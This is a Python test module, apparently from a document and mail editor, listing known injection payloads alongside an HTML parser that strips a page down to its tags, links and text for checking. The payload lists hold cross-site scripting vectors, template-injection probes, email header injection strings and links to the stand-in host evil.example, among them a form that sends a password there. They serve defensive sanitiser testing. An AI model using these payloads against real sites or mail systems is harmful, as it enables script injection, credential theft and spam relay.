"""Known attacks on programs that write HTML and mail, and what a page is made of, words aside."""

import html
import re
from dataclasses import dataclass, field
from html.parser import HTMLParser

from crank_desktop.document.merge_tags import MERGE_TAG
from crank_desktop.document.writable import writable

VECTORS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<<script>alert(1)//<</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    '<img src="x" onerror\n=\n"alert(1)">',
    "<img src=x:x onerror&equals;alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus=alert(1) autofocus='",
    '"style="background:url(javascript:alert(1))"',
    "<body onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<math href="javascript:alert(1)">x</math>',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=password>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    '<div style="width:expression(alert(1))">',
    '<p style="background:url(//evil.example/x.png)">',
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](//evil.example/x)",
    '[x](https://evil.example/"onmouseover="alert(1))',
    "[x](https://evil.example/'onmouseover='alert(1))",
    "![x](https://evil.example/x.png)",
    "<javascript:alert(1)>",
    "<https://evil.example/\"onmouseover='alert(1)'>",
    "[x]: javascript:alert(1)",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<![endif]--> <!-- ",
    "--> <script>alert(1)</script> <!--",
    "<!-- never closed",
    '<!--"0--><!--/"0-->',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 7 * 7 ?>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    "<plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p",
    "</td></tr></table></div>",
    "{{ 7 * 7 }} {% for x in [1] %}{{ x }}{% endfor %} {# gone #}",
    "{{ config.items() }}${7 * 7}#{7 * 7}<%= 7 * 7 %>",
    "*|IF:<script>alert(1)</script>|*",
    '*|HTML:"><img src=x onerror=alert(1)>|*',
    "*|IF:A <1 onload=alert(1)>|*",
    "*|A:&lt;script&gt;alert(1)&lt;/script&gt;|*",
    "%%{<script>alert(1)</script>}%%",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img\x0bsrc=x\x0conerror=alert(1)>",
    "\u202egnp.exe\u202c \u2066<b>\u2069",
    "\u2028<script>alert(1)</script>\u2029",
    "x\r\nBcc: victim@example.org",
    "x\nContent-Type: text/html\n\n<script>alert(1)</script>",
    "x\r\n\r\n--boundary\r\nContent-Type: text/html",
    "=?utf-8?q?=0D=0ABcc:_victim@example.org?=",
    "=_boundary--",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript://example.org/%0Aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://example.org/x",
    "view-source:javascript:alert(1)",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https:\\\\evil.example",
    "https://",
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/'onmouseover='alert(1)",
    "https://example.org/><script>alert(1)</script>",
    "https://example.org/\r\nBcc: victim@example.org",
    "mailto:a@example.org\r\nBcc: victim@example.org",
    "mailto:javascript:alert(1)",
    "*|IF:<script>|*",
    "{{ 7 * 7 }}",
)


@dataclass
class Skeleton(HTMLParser):
    """What a page is made of besides its words: tags with their attributes' names, and comments."""

    tags: list[tuple[str, tuple[str, ...]]] = field(default_factory=list)
    ends: list[str] = field(default_factory=list)
    others: list[str] = field(default_factory=list)
    links: list[str] = field(default_factory=list)
    words: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(name for name, _ in attrs)))
        self.links += [value or "" for name, value in attrs if name in {"href", "src"}]
        self.words += [value or "" for name, value in attrs if name in {"alt", "content"}]

    def handle_endtag(self, tag: str) -> None:
        self.ends.append(tag)

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)

    @property
    def text(self) -> str:
        """All words, blanks between them made one."""
        return plain("".join(self.words))


def skeleton(page: str) -> Skeleton:
    found = Skeleton()
    found.feed(page)
    found.close()
    return found


def plain(words: str) -> str:
    """Words as a page can hold them: control characters marked or left out, blanks made one."""
    return " ".join(re.sub("[\x0b\x0c\x1b\x7f]", "", writable(words)).split())


def shown(vector: str) -> str:
    """A vector as a reader sees it: a placeholder is written as it is, references and all."""
    return html.unescape(vector) if MERGE_TAG.fullmatch(vector) else vector


def squeezed(found: object) -> object:
    """The values of a JSON issue, blanks and line ends in every single line made one blank."""
    if isinstance(found, dict):
        prose = {"body", "intro"}
        return {key: one if key in prose else squeezed(one) for key, one in found.items()}
    if isinstance(found, list):
        return [squeezed(one) for one in found]
    return " ".join(found.split()) if isinstance(found, str) else found
